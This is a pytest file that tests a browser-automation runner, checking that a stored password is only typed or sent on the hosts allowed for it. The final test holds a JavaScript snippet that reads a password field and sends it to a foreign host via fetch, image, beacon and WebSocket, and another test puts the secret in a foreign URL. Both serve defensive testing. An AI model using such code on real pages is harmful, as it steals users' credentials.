"""Secrets stay on their hosts: pages of bots that have one, and recordings that type one."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from runner.recordings import library
from runner.recordings.binding import Binding, write_binding
from tests.kit_site import PAGES, site
from tests.kit_worker import Finished, Project
from tests.recordings_made import field, recording

pytestmark = pytest.mark.browser
HEAD = """
    from runner import bot, log, secret, web
"""
WORD = "correct-horse"


@pytest.fixture
def asked() -> list[str]:
    """The paths that the foreign site was asked for."""
    return []


@pytest.fixture
def foreign(asked: list[str]) -> Iterator[str]:
    with site(asked) as address:
        yield address


@pytest.fixture
def own() -> Iterator[str]:
    with site() as address:
        yield address


def host_of(address: str) -> str:
    return urlsplit(address).netloc


def work(tmp_path: Path, body: str, hosts: list[str] | None, **parameters: str) -> Finished:
    return Project(tmp_path, HEAD + body).run(
        "work", parameters=parameters, secrets={"portal": WORD}, hosts=hosts
    )


def error_of(finished: Finished) -> dict[str, Any]:
    (end,) = finished.events("run.finished")
    assert end.error is not None, finished.console
    return dict(end.error)


SIGNS_IN = """
    @bot(secrets=["portal"])
    def work(address: str) -> None:
        with web.page(base_url=address) as page:
            page.goto("/form")
            page.get_by_label("Password").fill(secret("portal"))
            log.info("typed")
"""


def test_a_bot_that_was_started_at_another_address_does_not_get_the_secret(
    tmp_path: Path, own: str, foreign: str
) -> None:
    right = work(tmp_path / "right", SIGNS_IN, [host_of(own)], address=own)
    assert any(line.message == "typed" for line in right.lines), right.console

    wrong = work(tmp_path / "wrong", SIGNS_IN, [host_of(own)], address=foreign)
    error = error_of(wrong)
    assert error["code"] == "SECRET_HOST"
    assert error["message"].startswith(f"the secret 'portal' is not for {host_of(foreign)}")
    assert f"runner secrets hosts portal --add {host_of(foreign)}" in str(error)
    assert not any(line.message == "typed" for line in wrong.lines)


def test_a_secret_without_hosts_goes_where_the_bot_sends_it(tmp_path: Path, foreign: str) -> None:
    finished = work(tmp_path, SIGNS_IN, None, address=foreign)
    assert any(line.message == "typed" for line in finished.lines), finished.console


def test_pages_stay_on_the_hosts_of_a_secret_and_may_load_from_others(
    tmp_path: Path, own: str, foreign: str, asked: list[str]
) -> None:
    body = """
    @bot(secrets=["portal"])
    def work(address: str, other: str) -> None:
        with web.page(base_url=address) as page:
            page.goto("/form")
            secret("portal")
            page.evaluate("url => fetch(url, {mode: 'no-cors'})", other + "/loaded")
            try:
                page.goto(other + "/form?word=" + secret("portal"))
            except Exception as error:
                log.info("refused: {}", "ERR_BLOCKED_BY_CLIENT" in str(error))
        with web.page(base_url=other) as page:
            try:
                page.goto("/empty")
            except Exception as error:
                log.info("refused again: {}", "ERR_BLOCKED_BY_CLIENT" in str(error))
        with web.page(base_url=address) as page:
            page.goto("/empty")
            log.info("went on")
    """
    finished = work(tmp_path, body, [host_of(own)], address=own, other=foreign)

    messages = [line.message for line in finished.lines]
    assert [one for one in messages if "refused" in one] == ["refused: True", "refused again: True"], (
        finished.console
    )
    assert "went on" in messages
    assert asked == ["/loaded"]
    (first, second) = (line for line in finished.lines if "none of the hosts" in line.message)
    assert first.level == "warning"
    assert WORD not in str(first.data)
    assert second.data["url"] == f"{foreign}/empty"


def test_a_second_secret_opens_its_own_hosts_too(tmp_path: Path, own: str, foreign: str) -> None:
    body = """
    @bot(secrets=["portal"])
    def work(address: str, other: str) -> None:
        with web.page(base_url=address) as page:
            secret("portal")
            page.goto(other + "/form")
            log.info("there")
    """
    finished = work(tmp_path, body, [host_of(own), host_of(foreign)], address=own, other=foreign)
    assert any(line.message == "there" for line in finished.lines), finished.console


def test_a_bot_can_ask_for_a_secret_for_an_address(tmp_path: Path) -> None:
    body = """
    @bot(secrets=["portal"])
    def work(address: str) -> None:
        secret("portal", to=address)
    """
    assert (
        work(tmp_path / "1", body, ["api.example"], address="https://api.example/v1")
        .events("run.finished")[0]
        .error
        is None
    )
    assert (
        error_of(work(tmp_path / "2", body, ["api.example"], address="http://api.example/v1"))["code"]
        == "SECRET_HOST"
    )
    assert (
        error_of(work(tmp_path / "3", body, None, address="https://api.example/v1"))["code"] == "SECRET_HOST"
    )


def replayed(
    tmp_path: Path, own: str, hosts: list[str] | None, *steps: dict[str, Any], address: str = ""
) -> Finished:
    """A bot of a recording that opens the form of `own`, started at `address`."""
    place = library.Place(tmp_path, "sign-in")
    place.file.parent.mkdir(parents=True, exist_ok=True)
    made = recording({"type": "navigate", "url": f"{own}/form"}, *steps)
    place.write(made)
    write_binding(place, Binding(fingerprint=made.fingerprint, secrets=("portal",)), made)
    project = Project(tmp_path)
    project.file = "recordings/sign-in.yaml"
    return project.run(
        "sign-in", parameters={"address": address or own}, secrets={"portal": WORD}, hosts=hosts
    )


PASSWORD = field("Password", "${secret:portal}")


def test_a_recording_types_a_secret_on_its_hosts_and_the_journal_says_where(tmp_path: Path, own: str) -> None:
    finished = replayed(tmp_path, own, [host_of(own)], PASSWORD, PASSWORD)
    assert finished.events("run.finished")[0].error is None, finished.console
    told = [line.message for line in finished.lines if "is typed on" in line.message]
    assert told == [f"the secret 'portal' is typed on {host_of(own)}"]


def test_a_recording_that_is_started_elsewhere_types_nothing_there(
    tmp_path: Path, own: str, foreign: str, asked: list[str]
) -> None:
    finished = replayed(tmp_path, own, [host_of(own)], PASSWORD, address=foreign)
    error = error_of(finished)
    assert error["code"] == "SECRET_HOST"
    assert f"the secret 'portal' is not for {host_of(foreign)}" in error["message"]
    assert error["message"].startswith("sign-in step 2: ")
    assert set(asked) <= {"/form", "/favicon.ico"}


def test_a_recording_does_not_send_a_secret_in_an_address_either(
    tmp_path: Path, own: str, foreign: str, asked: list[str]
) -> None:
    away = {"type": "navigate", "url": f"{foreign}/empty?word=${{secret:portal}}"}
    assert error_of(replayed(tmp_path, own, [host_of(own)], away))["code"] == "SECRET_HOST"
    assert asked == []


def test_a_recording_types_no_secret_whose_hosts_nobody_has_said(tmp_path: Path, own: str) -> None:
    error = error_of(replayed(tmp_path, own, None, PASSWORD))
    assert error["code"] == "SECRET_HOST"
    assert "nobody has said where the secret 'portal' may be typed" in error["message"]


def test_what_is_typed_in_a_frame_counts_for_the_frame(
    tmp_path: Path, own: str, foreign: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(PAGES, "/framing", (200, f"<!doctype html><iframe src='{foreign}/form'></iframe>"))
    inside = {**PASSWORD, "frame": [0]}
    around = {"type": "navigate", "url": f"{own}/framing"}
    assert error_of(replayed(tmp_path / "1", own, [host_of(own)], around, inside))["code"] == "SECRET_HOST"
    finished = replayed(tmp_path / "2", own, [host_of(foreign)], around, inside)
    assert finished.events("run.finished")[0].error is None, finished.console


def test_code_in_a_recording_can_not_take_a_secret_elsewhere(
    tmp_path: Path, own: str, foreign: str, asked: list[str]
) -> None:
    elsewhere = foreign.replace("127.0.0.1", "localhost")
    steals = {
        "type": "waitForExpression",
        "expression": f"""(() => {{ const word = document.querySelector("[type=password]").value;
            fetch("{elsewhere}/fetched?" + word, {{mode: "no-cors"}}).catch(() => 0); new Image().src = "{elsewhere}/image?" + word;
            navigator.sendBeacon("{elsewhere}/beacon", word); new WebSocket("{elsewhere.replace("http", "ws")}/socket?" + word);
            return new Promise(done => setTimeout(() => done(true), 500)); }})()""",
    }  # fmt: skip
    finished = replayed(tmp_path / "1", own, [host_of(own)], PASSWORD, steals)
    assert finished.events("run.finished")[0].error is None, finished.console
    assert asked == []

    replayed(tmp_path / "2", own, ["*"], PASSWORD, steals)
    assert any(path.startswith("/fetched") for path in asked)
